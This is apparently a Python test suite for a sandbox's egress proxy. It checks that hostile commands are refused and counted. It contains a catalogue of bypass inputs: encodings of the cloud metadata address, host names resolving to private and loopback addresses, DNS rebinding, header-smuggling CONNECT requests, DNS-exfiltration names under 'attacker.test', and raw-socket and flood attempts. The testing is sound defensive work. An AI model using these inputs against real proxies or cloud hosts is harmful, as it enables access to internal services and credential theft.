#!/usr/bin/env python3
"""What a hostile command may try with the network that its policy gives, and
to get another one: addresses that matter, names that flip, ports, the resolver
as a way out, sockets of all kinds, other sandboxes, floods.  All of it is
refused at once and counted, and others notice nothing.

SANDBOX_TEST_FLOOD is the number of connections of the flood (2000)."""

import os
import shutil
import socket
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)) + "/../lib")

import egress                                                # noqa: E402
import wire                                                  # noqa: E402
from gateway import free_port, wait_for                      # noqa: E402
from runner import Runner, session, tenant                   # noqa: E402
from tap import check, main, same, test                      # noqa: E402

FLOOD = int(os.environ.get("SANDBOX_TEST_FLOOD") or 2000)
METADATA = "169.254.169.254"

# the same host, as this and that program reads it
NOTATIONS = (METADATA, "2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe",
             "0251.0376.0251.0376", "025177524776", "169.254.43518",
             "169.16689662", METADATA + ".", "[::ffff:169.254.169.254]",
             "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[fd00:ec2::254]",
             "::ffff:169.254.169.254", "0251.254.0xa9.254")

# names that an operator allows, and that lead where nobody may go
LEADS = {"meta.evil.test": [METADATA], "meta6.evil.test": ["fd00:ec2::254"],
         "mapped.evil.test": ["::ffff:169.254.169.254"],
         "nat64.evil.test": ["64:ff9b::a9fe:a9fe"],
         "sixtofour.evil.test": ["2002:a9fe:a9fe::1"],
         "teredo.evil.test": ["2001:0:a9fe:a9fe::1"],
         "local.evil.test": ["127.0.0.1"], "local6.evil.test": ["::1"],
         "zero.evil.test": ["0.0.0.0"], "zero6.evil.test": ["::"],
         "ten.evil.test": ["10.0.0.1"], "lan.evil.test": ["192.168.1.1"],
         "corp.evil.test": ["172.16.0.1"], "nat.evil.test": ["100.64.0.1"],
         "azure.evil.test": ["168.63.129.16"],
         "link.evil.test": ["fe80::1"], "ula.evil.test": ["fd12::1"],
         "all.evil.test": ["255.255.255.255"], "many.evil.test": ["224.0.0.1"],
         "next.evil.test": ["127.83.0.2"]}

# of the commands: one request to the proxy, by a target or as it stands
ASK = r"""
import errno, socket, sys, time
def ask(target=None, raw=None, seconds=60):
    s = socket.create_connection(("127.0.0.1", 3128), seconds)
    s.settimeout(seconds)
    try:
        s.sendall(raw or b"CONNECT " + target.encode()
                  + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += s.recv(1) or b"\r\n\r\n"
        line = head.split(b"\r\n")[0].decode("latin-1")
    except (ConnectionResetError, BrokenPipeError):
        line = "reset"
    return s, line
"""

folder = resolver = runner = listener = local = None
port = 0


class Listener:
    """Counts who connects, and says what it is told."""

    def __init__(self, address, number=0, word=b""):
        self.socket = socket.create_server((address, number), backlog=1024)
        self.port = self.socket.getsockname()[1]
        self.word = word
        self.kept = []
        threading.Thread(target=self.work, daemon=True).start()

    def work(self):
        while True:
            try:
                peer = self.socket.accept()[0]
                self.kept.append(peer)
                if self.word:
                    peer.sendall(self.word)
                    peer.shutdown(socket.SHUT_WR)
            except OSError:
                if self.socket.fileno() == -1:
                    return

    def close(self):
        self.socket.close()
        for peer in self.kept:
            peer.close()


def start():
    global folder, resolver, runner, listener, local, port
    folder = tempfile.mkdtemp(prefix="sandbox-egress.")
    names = dict(LEADS)
    names["good.test"] = names["other.test"] = [egress.HOST]
    names["flip.evil.test"] = [[egress.HOST], [METADATA], ["127.0.0.1"],
                               [egress.HOST, "127.0.0.1"]]
    resolver = egress.Resolver(names)
    # where others' connections on the loopback never come from
    port = free_port()
    listener = Listener(egress.HOST, port, b"world\n")
    local = Listener("127.0.0.1", port, b"secret\n")
    runner = Runner("--pool", "2", "--egress-resolver", resolver.address,
                    "--egress-allow-address", egress.HOST,
                    "--egress-allow-port", str(port))
    runner.start()
    answer = egress.push(runner.client, egress.table(
        egress.policy("evil", "good.test", "*.evil.test"),
        egress.policy("other", "other.test")))
    same(answer.code, None, "the table")


def stop():
    if runner:
        complaints = runner.complaints()
        runner.close()
        same(complaints, [])
    for thing in (listener, local, resolver):
        if thing:
            thing.close()
    if folder:
        shutil.rmtree(folder)


def out(name, text, policy="evil", **fields):
    fields.setdefault("wall_ms", 240000)
    fields.setdefault("cpu_ms", 120000)
    answer = runner.command(name, text, tenant=tenant(name),
                            egress=egress.policy_id(policy) if policy else 0,
                            **fields)
    same(answer.code, None, text[-300:])
    same((answer.result["EXIT_CODE"], answer.stderr), (0, b""), text[-300:])
    return answer.stdout.decode()


def python(name, text, policy="evil", **fields):
    return out(name, "python3 - <<'E'\n" + ASK + text + "\nE", policy,
               **fields)


def counts(policy="evil"):
    return egress.counts(runner.call(wire.PING).result, policy)


def works(name="fine"):
    """Somebody else's network is as it was."""
    same(python(name, "s, line = ask('other.test:%d')\n"
                "print(line[9:12], s.recv(6))" % port, "other"),
         "200 b'world\\n'\n", "of others")


@test("egress/metadata")
def metadata():
    before = counts()
    said = python("meta", "for host in %r:\n"
                  "    for number in (443, 80, %d):\n"
                  "        print(ask('%%s:%%d' %% (host, number))[1][9:12])"
                  % (NOTATIONS, port)).split()
    same(len(said), 3 * len(NOTATIONS))
    same(set(said), {"403"}, "by the proxy")
    wait_for(lambda: counts()["refused"] - before["refused"] == len(said), 60,
             "all of them counted")
    # and without it there is no way at all, which is known at once
    same(python("meta", "for host in (%r, 'fd00:ec2::254', '10.0.0.1',\n"
                "             '192.168.0.1', '172.16.0.1', '8.8.8.8',\n"
                "             '2001:4860:4860::8888', '%s'):\n"
                "    s = socket.socket(socket.AF_INET6 if ':' in host\n"
                "                      else socket.AF_INET)\n"
                "    s.settimeout(60)\n"
                "    error = s.connect_ex((host, %d))\n"
                "    if not (host.startswith('127') and\n"
                "            error == errno.ECONNREFUSED):\n"
                "        print(errno.errorcode[error])"
                % (METADATA, egress.HOST, port)).split(),
         ["ENETUNREACH"] * 5 + ["ENETUNREACH"] * 2, "directly")


@test("egress/names-that-lead-elsewhere")
def leads():
    before = counts()
    said = python("leads", "for host in %r:\n"
                  "    print(ask(host + ':%d')[1])"
                  % (sorted(LEADS), port)).splitlines()
    same({line[9:12] for line in said}, {"403"}, repr(said))
    for line in said:
        check("leads to an address" in line, "says why", line)
    wait_for(lambda: counts()["refused"] - before["refused"] == len(LEADS),
             60, "all of them counted")
    same(len(local.kept), 0, "nobody was on the host's loopback")


@test("egress/dns-rebinding")
def rebinding():
    """A name that says another thing each time: what was checked is what is
    connected to."""
    asked, seen = len(resolver.asked), len(listener.kept)
    said = python("flip", "for i in range(24):\n"
                  "    s, line = ask('flip.evil.test:%d')\n"
                  "    print(line[9:12],\n"
                  "          s.recv(6) if line[9:12] == '200' else '')"
                  % port).splitlines()
    same(set(said), {"200 b'world\\n'", "403 "}, repr(said))
    good = said.count("200 b'world\\n'")
    check(6 <= good <= 18, "half of them, or so", said)
    same(len(listener.kept) - seen, good, "and nobody else was asked")
    same(len(local.kept), 0, "nobody was on the host's loopback")
    check(resolver.asked[asked:].count("flip.evil.test") >= 48,
          "asked for each, A and AAAA")


@test("egress/ports")
def ports():
    numbers = [n for n in (1, 22, 25, 53, 80, 444, 3128, 8080, 8443, 65535)
               if n != port]
    said = python("ports", "for n in %r:\n"
                  "    print(ask('good.test:%%d' %% n)[1])" % numbers)
    for n, line in zip(numbers, said.splitlines()):
        check(line[9:12] == "403" and "Port %d can't" % n in line, n, line)
    for word in ("0", "65536", "-1", "443x", "00443", ""):
        same(python("ports", "print(ask('good.test:%s')[1][9:12])" % word),
             "400\n", "port " + word)


@test("egress/requests-that-are-none")
def malformed():
    """Whatever is written there: an answer, and nothing happens."""
    seen = len(listener.kept)
    said = python("odd", r"""
good = b"CONNECT good.test:%d HTTP/1.1"
for raw in (b"GET http://good.test/ HTTP/1.1\r\n\r\n",
            b"POST http://good.test/ HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc",
            b"CONNECT good.test HTTP/1.1\r\n\r\n",
            good + b"\n\n", good + b"\r\nA: b\nB: c\r\n\r\n",
            good + b"\r\n A: b\r\n\r\n", good + b"\r\nA b\r\n\r\n",
            good + b"\r\nTransfer-Encoding: chunked\r\n\r\n",
            good + b"\r\nHost: a\r\nHost: b\r\n\r\n",
            good + b"\r\nContent-Length: 5\r\n\r\nhello",
            good.replace(b"good", b"evil.test\r\nHost: good") + b"\r\n\r\n",
            good.replace(b"good", b"go\0od") + b"\r\n\r\n",
            good.replace(b"good", b"go\tod") + b"\r\n\r\n",
            good.replace(b"good.test", b"user:word@good.test") + b"\r\n\r\n",
            good.replace(b"1.1", b"2.0") + b"\r\n\r\n",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
            b"\x05\x01\x00", b"\x04\x01\x01\xbb\x01\x01\x01\x01\0",
            b"SSH-2.0-x\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            good + b"\r\n" + b"A: b\r\n" * 100 + b"\r\n",
            good + b"\r\nA: " + b"x" * 20000):
    print(ask(raw=raw)[1][9:12])
""" % port).split()
    check(set(said) <= {"400", "403", "431"}, "answers", said)
    same(said[:2] + said[-2:], ["403", "400", "431", "431"])
    same(len(listener.kept), seen, "nothing was connected to")
    works()


@test("egress/dns-exfiltration")
def exfiltration():
    """A name that is not allowed is told to nobody, and there is no other way
    to a resolver."""
    asked = len(resolver.asked)
    python("exfil", "for i in range(50):\n"
           "    line = ask('secret-%%d.attacker.test:%d' %% i)[1]\n"
           "    assert line[9:12] == '403', line" % port)
    same(resolver.asked[asked:], [], "nothing was asked")
    same(python("exfil", r"""
for name in ("secret.attacker.test", "good.test"):
    try:
        print(socket.getaddrinfo(name, 443))
    except socket.gaierror as e:
        print("none")
query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4test\0\0\1\0\1"
for host in ("127.0.0.1", "127.0.0.53", "127.83.0.53", "8.8.8.8", "::1",
             "2001:4860:4860::8888"):
    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET,
                      socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.connect((host, %d if host == "127.83.0.53" else 53))
        s.send(query)
        s.recv(512)
        print("an answer of", host)
    except OSError as e:
        pass
""" % int(resolver.address.split(":")[1])), "none\nnone\n", "names and UDP")
    same(resolver.asked[asked:], [], "and still nothing")


@test("egress/sockets")
def sockets():
    """Kinds of sockets that would get round the proxy."""
    said = python("kinds", r"""
import os
def made(*words):
    try:
        s = socket.socket(*words)
    except OSError as e:
        return errno.errorcode[e.errno]
    return s
print(made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
print(made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
print(made(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6))
print(made(socket.AF_PACKET, socket.SOCK_RAW, 3))
for family in (socket.AF_VSOCK, 16, 21, 29, 38, 44):
    s = made(family, socket.SOCK_STREAM)
    if not isinstance(s, str):
        print("made", family)
for words in ((socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
              (socket.AF_INET, socket.SOCK_DGRAM),
              (socket.AF_INET6, socket.SOCK_DGRAM)):
    s = made(*words)
    if isinstance(s, str):
        continue
    host = "8.8.8.8" if words[0] == socket.AF_INET else "2001:4860::1"
    try:
        s.sendto(b"\x08\0\xf7\xff\0\0\0\0", (host, 53))
        print("sent", words)
    except OSError as e:
        pass
print(open("/proc/net/route").read().count("\n") - 1, "routes")
""").splitlines()
    for line in said[:4]:
        check(line in ("EPERM", "EACCES", "EAFNOSUPPORT", "ENOSYS",
                       "EPROTONOSUPPORT"), line, said)
    same(said[4:], ["0 routes"])


@test("egress/others")
def others():
    """Sockets of the host, and the listeners of other sandboxes."""
    works("rich")
    with socket.socket(socket.AF_UNIX) as host:
        name = "\0sandbox-test-%d" % os.getpid()
        host.bind(name)
        host.listen()
        host.setblocking(False)
        same(python("poor", "s = socket.socket(socket.AF_UNIX)\n"
                    "print(errno.errorcode[s.connect_ex(%r)])\n"
                    "s = socket.socket()\n"
                    "print(errno.errorcode[s.connect_ex(('127.0.0.1', "
                    "3128))])\n"
                    "s = socket.socket(socket.AF_INET6)\n"
                    "print(errno.errorcode[s.connect_ex(('::1', 3128))])"
                    % name, None), "ECONNREFUSED\n" * 3)
        try:
            host.accept()
            check(False, "somebody came")
        except BlockingIOError:
            pass
    # by one's own proxy to another's, to one's own, and to its channel
    said = python("rich2", "for host in ('localhost:3128', "
                  "'local.evil.test:3128', 'local.evil.test:%d', "
                  "'other.test:%d'):\n    print(ask(host)[1][9:12])"
                  % (port, port)).split()
    same(said, ["403"] * 4)
    same(len(local.kept), 0, "nobody was on the host's loopback")


@test("egress/flood", seconds=900)
def flood():
    """Thousands of connections: those over the bound are told, or closed, at
    once; others have their network, and the log is not filled."""
    before, lines = counts(), len(runner.text().splitlines())
    begun = time.monotonic()
    sock = runner.client.send(
        wire.COMMAND, wire.fields(("WALL_MS", 240000), ("OPEN_FILES", 4096),
            ("COMMAND", "python3 - <<'E'\n" + ASK + r"""
kept = []
for i in range(256):
    s, line = ask("good.test:%d")
    assert line[9:12] == "200", line
    kept.append(s)
told = {}
for i in range(%d - 256):
    s, line = ask("good.test:%d")
    told[line[9:12]] = told.get(line[9:12], 0) + 1
    s.close()
print(sum(told.values()), set(told) <= {"503", ""} or told, flush=True)
for s in kept:
    s.close()
E""" % (port, FLOOD, port))),
        session=session("flood"), tenant=tenant("flood"),
        egress=egress.policy_id("evil"))
    for i in range(5):
        works("calm")
    answer = runner.client.answer(sock)
    sock.close()
    same((answer.stdout.decode(), answer.stderr),
         ("%d True\n" % (FLOOD - 256), b""), repr(answer.result))
    wait_for(lambda: counts()["refused"] - before["refused"] >= FLOOD - 256,
             60, "all of them counted")
    wait_for(lambda: counts()["open"] == 0, 60, "none left open")
    # 100 at once, 10 a second after that, however long it took
    more = runner.text().splitlines()[lines:]
    said = [line for line in more if "too many connections" in line]
    check(len(said) <= 110 + 10 * (time.monotonic() - begun),
          "lines of the log", len(said))
    # whoever did it has his network again
    same(python("flood", "print(ask('good.test:%d')[1][9:12])" % port),
         "200\n")


@test("egress/blocked-tunnels")
def blocked():
    """Tunnels that one end writes to and nobody reads: a buffer each, at
    most."""
    def memory():
        for p in os.listdir("/proc"):
            if p.isdigit():
                try:
                    with open("/proc/%s/status" % p) as f:
                        text = f.read()
                except OSError:
                    continue
                if "\tsandbox-egress\n" in text \
                        and "\nPPid:\t%d\n" % runner.process.pid in text:
                    return int(text.partition("VmRSS:")[2].split()[0])
        return 0

    said = python("blocked", r"""
kept, sent = [], 0
for i in range(60):
    s, line = ask("good.test:%d")
    if line[9:12] != "200":
        print(line)
    s.setblocking(False)
    kept.append(s)
quiet = 0
while quiet < 100:
    quiet += 1
    for s in kept:
        try:
            sent += s.send(bytes(262144))
            quiet = 0
        except BlockingIOError:
            pass
    time.sleep(0.01)
print(sent > 60 * 65536)
""" % port)
    same(said, "True\n")
    check(0 < memory() < 128 * 1024, "memory of the proxy, KiB", memory())
    works()


if __name__ == "__main__":
    main(start, stop)
